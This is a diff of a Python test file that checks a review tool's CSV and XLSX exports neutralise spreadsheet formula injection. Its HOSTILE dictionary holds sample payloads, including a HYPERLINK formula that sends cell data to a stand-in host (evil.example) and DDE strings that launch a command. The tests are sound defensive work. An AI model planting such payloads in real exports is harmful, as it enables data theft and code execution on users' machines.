@@ -16,7 +16,7 @@ from sqlalchemy import select
 
 from benchmarks.bench_review import seed_synthetic
 from db import reviews
-from db.export import export_bytes, parse_statuses
+from db.export import export_bytes, is_formula_like, parse_statuses
 from klimamaal.cli import main
 from models import Page, Target
 
@@ -45,14 +45,93 @@ def test_csv_holds_current_values_of_decided_targets(sessions, decided) -> None:
     assert by_id[decided[2]]["note"] == "statistik" and by_id[decided[2]]["reviewer"] == "bent"
 
 
-def test_xlsx_keeps_formula_like_text_as_text(sessions, decided) -> None:  # type: ignore[no-untyped-def]
+#: Text a spreadsheet would run, each in a field a reviewer or a document can fill.
+HOSTILE = {
+    "metric": '=HYPERLINK("http://evil.example/?d="&A1,"klik")',
+    "baseline_label": "+cmd|' /C calc'!A0",
+    "unit": "\t=1+1",
+    "note": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "reason": "-2+3",
+    "quote": "\r=1+1",
+}
+
+
+@pytest.fixture
+def hostile(database_url: str, sessions):  # type: ignore[no-untyped-def]
+    """An edited target whose text fields start formulas, one rejected with such a reason, a negative value."""
+    seed_synthetic(database_url, documents=1, targets_per_document=2, targets_per_page=2)
+    with sessions.begin() as session:
+        first, second = session.scalars(select(Target.id).order_by(Target.id))
+        fields = {k: HOSTILE[k] for k in ("metric", "baseline_label", "unit")} | {"value": -5.0}
+        reviews.edit(session, first, "anna", 0, fields, HOSTILE["note"])
+        reviews.reject(session, second, "bent", 0, HOSTILE["reason"])
+        page = session.scalars(select(Page)).first()
+        assert page is not None
+        page.text += HOSTILE["quote"]  # a quote read from a document may start so too
+        added = reviews.add_target(
+            session,
+            document_id=page.document_id,
+            page_number=page.number,
+            page_start=len(page.text) - len(HOSTILE["quote"]),
+            page_end=len(page.text),
+            quote=HOSTILE["quote"],
+            fields={},
+            reviewer="anna",
+        )
+    return {"edited": first, "rejected": second, "added": added.id}
+
+
+def test_csv_neutralises_formulas(sessions, hostile) -> None:  # type: ignore[no-untyped-def]
     with sessions() as session:
-        data = export_bytes(session, "xlsx", parse_statuses("edited"))
+        data = export_bytes(session, "csv")
+    rows = {int(r["id"]): r for r in csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline=""))}
+    edited, rejected, added = rows[hostile["edited"]], rows[hostile["rejected"]], rows[hostile["added"]]
+    for field in ("metric", "baseline_label", "unit", "note"):
+        assert edited[field] == "'" + HOSTILE[field], field
+    assert rejected["note"] == "'" + HOSTILE["reason"] and added["quote"] == "'" + HOSTILE["quote"]
+    assert edited["value"] == "-5.0"  # a number, not text: left alone
+    for row in rows.values():
+        live = [cell for cell in row.values() if is_formula_like(cell) and not _is_number(cell)]
+        assert live == [], row
+
+
+def _is_number(text: str) -> bool:
+    try:
+        float(text)
+    except ValueError:
+        return False
+    return True
+
+
+def test_xlsx_keeps_formula_like_text_as_text(sessions, hostile) -> None:  # type: ignore[no-untyped-def]
+    with sessions() as session:
+        data = export_bytes(session, "xlsx")
     sheet = load_workbook(io.BytesIO(data)).active
     header = [c.value for c in sheet[1]]
-    row = dict(zip(header, [c.value for c in sheet[2]], strict=True))
-    assert row["metric"] == "=SUM(A1)" and sheet.cell(2, header.index("metric") + 1).data_type == "s"
-    assert row["value"] == 1.5 and sheet.max_row == 2
+    cells = {row[0].value: dict(zip(header, row, strict=True)) for row in sheet.iter_rows(min_row=2)}
+    edited, rejected = cells[hostile["edited"]], cells[hostile["rejected"]]
+    added = cells[hostile["added"]]
+    expected = [(edited[f], HOSTILE[f]) for f in ("metric", "baseline_label", "unit", "note")]
+    expected += [(rejected["note"], HOSTILE["reason"]), (added["quote"], HOSTILE["quote"])]
+    for cell, text in expected:
+        assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True)  # exact text, never run
+    assert edited["value"].value == -5.0 and edited["value"].data_type == "n"
+    formulas = [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
+    assert formulas == []
+
+
+def test_cli_csv_listings_neutralise_formulas_too(sqlite_url: str, monkeypatch) -> None:  # type: ignore[no-untyped-def]
+    from db.engine import session_factory
+
+    seed_synthetic(sqlite_url, documents=1, targets_per_document=1, targets_per_page=1)
+    with session_factory(sqlite_url).begin() as session:
+        (target,) = session.scalars(select(Target))
+        target.metric = HOSTILE["metric"]  # as a rule could read it from a document
+    monkeypatch.setenv("KLIMAMAAL_DATABASE_URL", sqlite_url)
+    result = CliRunner().invoke(main, ["targets", "--format", "csv"])
+    assert result.exit_code == 0, result.output
+    (row,) = csv.DictReader(io.StringIO(result.output))
+    assert row["metric"] == "'" + HOSTILE["metric"]
 
 
 def test_jsonl_is_gold_format_and_passes_the_gold_checker(sessions, decided, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
